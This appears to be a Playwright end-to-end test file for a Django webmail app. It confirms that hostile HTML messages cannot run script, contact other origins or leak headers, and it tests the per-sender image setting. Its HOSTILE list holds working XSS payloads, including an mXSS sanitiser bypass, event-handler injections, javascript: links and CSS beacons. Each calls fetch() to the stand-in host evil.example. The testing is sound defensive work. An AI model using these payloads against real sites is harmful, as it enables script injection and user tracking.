"""Whatever message is opened: nothing in it reaches another origin, runs, or opens anything.

Opened are a set of hostile pages and the corpus of real and odd mail; where that does not lie beside the checkout,
the sample mailbox.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from playwright.sync_api import BrowserContext, Dialog, Page, Request, expect

from emails.importing import messages, store
from emails.models import Email
from tests.e2e.site import Site
from tests.emails.nasty import NASTY
from tests.factories import make_email

pytestmark = pytest.mark.browser

CORPUS = Path(settings.BASE_DIR).parent / "shared" / "corpus"
SAMPLE = Path(settings.BASE_DIR) / "emails" / "sample"
PIXEL = base64.b64decode("R0lGODlhAQABAAAAACwAAAAAAQABAAA=")
TABS = 4  # opened at a time, which is quicker than one after the other
RUN = "fetch(`https://evil.example/ran`);alert(1)"
HOSTILE = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}"><body onload="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script><image href="https://evil.example/svg"/></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<iframe srcdoc="<script>{RUN}</script>" src="https://evil.example/frame"></iframe>',
    '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
    '<link rel="stylesheet" href="https://evil.example/css"><link rel="prefetch" href="https://evil.example/pre">'
    '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">',
    '<style>@import "https://evil.example/import"; body { background: url(https://evil.example/body) }</style>',
    '<p style="background:url(https://evil.example/p);list-style-image:url(https://evil.example/l)">x</p>'
    '<ul style="list-style:url(https://evil.example/li)"><li>x</ul><table background="https://evil.example/t"><tr><td>x',
    '<img src="https://evil.example/i" srcset="https://evil.example/s 2x"><picture><source srcset='
    '"https://evil.example/source"><img src="//evil.example/relative"></picture>',
    '<video src="https://evil.example/v" poster="https://evil.example/poster" autoplay></video><audio autoplay src='
    '"https://evil.example/a"></audio><input type="image" src="https://evil.example/input">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/away"><base href="https://evil.example/">'
    '<img src="base.png">',
    f'<form action="https://evil.example/post"><input autofocus onfocus="{RUN}"></form><details open '
    f'ontoggle="{RUN}"><summary>x</summary></details>',
    f'<a href="javascript:{RUN}" ping="https://evil.example/ping" autofocus>x</a><p hx-get="https://evil.example/hx"'
    f' hx-trigger="load" hx-on:load="{RUN}" data-hx-get="/" data-confirm="x">x</p>',
    '<img src="https://evil.example/dot" width="1" height="1"><div style="display:none"><img src='
    '"https://evil.example/hidden" width="80"></div><div hidden style="background:url(https://evil.example/h)"></div>',
]


def page_mail(number: int, html: str) -> bytes:
    head = f"From: Eve <eve@example.com>\nSubject: Hostile {number}\nMessage-ID: <{number}@evil.example>\n"
    return f"{head}MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<p>seen</p>{html}".encode()


@pytest.fixture
def strayed(context: BrowserContext, site: Site) -> Iterator[list[str]]:
    """Requests to another origin and dialogs: all that a message could bring about. None may be left.

    The browser also tells of requests that it did not make because of a policy; those end as `csp`. It finds
    no host but this one: answering all others would cost it its cache, and the test twice the time.
    """
    told: list[str] = []

    def listen(request: Request) -> None:
        if not request.url.startswith((f"{site.url}/", "data:")):
            told.append(f"{request.resource_type} {request.url}")

    def refuse(request: Request) -> None:
        entry = f"{request.resource_type} {request.url}"
        if request.failure == "csp" and entry in told:
            told.remove(entry)

    def dismiss(dialog: Dialog) -> None:
        told.append(f"dialog {dialog.message}")
        dialog.dismiss()

    context.on("request", listen)
    context.on("requestfailed", refuse)
    context.on("dialog", dismiss)
    yield told
    assert told == []


@pytest.fixture
def answered(context: BrowserContext) -> None:
    """The other origin is there, and has a pixel for everything."""
    context.route(
        re.compile("//evil.example/"), lambda route: route.fulfill(body=PIXEL, content_type="image/gif")
    )


def only_refusals(complaints: list[str]) -> None:
    """The browser notes what the frame's policy refused, and nothing else."""
    refused = ("Content Security Policy", "sandboxed")
    assert [told for told in complaints if not any(words in told for words in refused)] == []
    complaints.clear()


def test_no_message_reaches_out_or_runs(
    page: Page, person: User, site: Site, strayed: list[str], complaints: list[str]
) -> None:
    for number, html in enumerate(HOSTILE):
        store(person, page_mail(number, html))
    for raw in (*NASTY.values(), *messages(CORPUS if CORPUS.is_dir() else SAMPLE)):
        store(person, raw)
    windows: list[Page] = []
    page.context.on("page", lambda window: windows.append(window))
    opened = list(Email.objects.of(person).values_list("pk", "html"))
    assert len(opened) > 120
    tabs = [page, *(page.context.new_page() for _more in range(TABS - 1))]
    windows.clear()
    for at in range(0, len(opened), TABS):
        several = list(zip(opened[at : at + TABS], tabs, strict=False))
        for (pk, _html), tab in several:
            tab.goto(f"/email/{pk}/", wait_until="commit")
        for (pk, html), tab in several:
            tab.wait_for_load_state("load")
            assert tab.url == f"{site.url}/email/{pk}/"
            assert len(tab.frames) == (2 if html else 1), pk
    assert windows == []
    only_refusals(complaints)


def test_no_script_runs_whatever_gets_past_the_sanitiser(
    page: Page, strayed: list[str], complaints: list[str], site: Site, context: BrowserContext, person: User
) -> None:
    for html in HOSTILE:
        letter = make_email(person, html=html)
        page.goto(f"/email/{letter.pk}/")
        assert page.url == f"{site.url}/email/{letter.pk}/"
    # Without the sanitiser, a page may still send its own frame elsewhere; it gets no further than that.
    strayed[:] = [told for told in strayed if told != "document https://evil.example/away"]
    only_refusals(complaints)


def test_images_that_are_asked_for_tell_as_little_as_they_can(
    page: Page, person: User, strayed: list[str], answered: None, complaints: list[str]
) -> None:
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request) if "evil" in request.url else None)
    for number, html in enumerate(HOSTILE):
        letter = store(person, page_mail(number, html))[1]
        page.goto(f"/email/{letter.pk}/html?images=1")
    reached = {urlsplit(request.url).path for request in asked}
    assert {"/i", "/p"} <= reached
    assert not reached & {
        "/dot",
        "/hidden",
        "/h",
        "/ran",
        "/frame",
        "/css",
        "/object",
        "/away",
        "/relative",
        "/s",
    }
    assert {request.resource_type for request in asked} == {"image"}
    assert not [request for request in asked if {"referer", "cookie"} & set(request.all_headers())]
    strayed.clear()
    only_refusals(complaints)


def test_a_senders_images_come_by_themselves_once_that_was_chosen(
    page: Page, person: User, strayed: list[str], answered: None, complaints: list[str]
) -> None:
    letters = [
        store(person, page_mail(n, f'<img src="https://evil.example/{n}" width="90">'))[1] for n in (1, 2)
    ]
    page.goto(f"/email/{letters[0].pk}/")
    assert strayed == []
    page.get_by_role("button", name="Always for eve@example.com").click()
    expect(page.get_by_text("From now on you see")).to_be_visible()
    page.wait_for_load_state("networkidle")
    page.goto(f"/email/{letters[1].pk}/")
    assert strayed == ["image https://evil.example/1", "image https://evil.example/2"]
    page.get_by_role("link", name="Manage senders").click()
    page.get_by_role("button", name="Ask me again").click()
    expect(page.get_by_text("You are asked again")).to_be_visible()
    strayed.clear()
    page.goto(f"/email/{letters[1].pk}/")
    only_refusals(complaints)
